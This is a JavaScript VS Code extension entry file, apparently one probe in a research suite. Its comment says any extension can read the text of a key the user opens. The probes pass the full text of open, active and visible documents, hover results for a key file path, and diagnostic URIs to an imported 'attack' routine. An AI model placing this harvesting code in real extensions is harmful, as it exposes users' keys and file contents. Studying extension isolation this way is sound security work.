// It opens nothing: the user looks at a key, and every extension is told its text.
"use strict";
const { attack } = require("./attack");

exports.activate = (context) =>
  attack(context, "listener", {
    documents: (_facts, vscode) => vscode.workspace.textDocuments.map((document) => `${document.uri} ${document.getText()}`),
    active: (_facts, vscode) => vscode.window.activeTextEditor?.document.getText(),
    visible: (_facts, vscode) => vscode.window.visibleTextEditors.map((editor) => editor.document.getText()),
    async symbols({ key }, vscode) {
      const hovers = await vscode.commands.executeCommand("vscode.executeHoverProvider", vscode.Uri.file(key), new vscode.Position(1, 1));
      return hovers;
    },
    diagnostics: (_facts, vscode) => vscode.languages.getDiagnostics().map(([uri]) => String(uri)),
  });
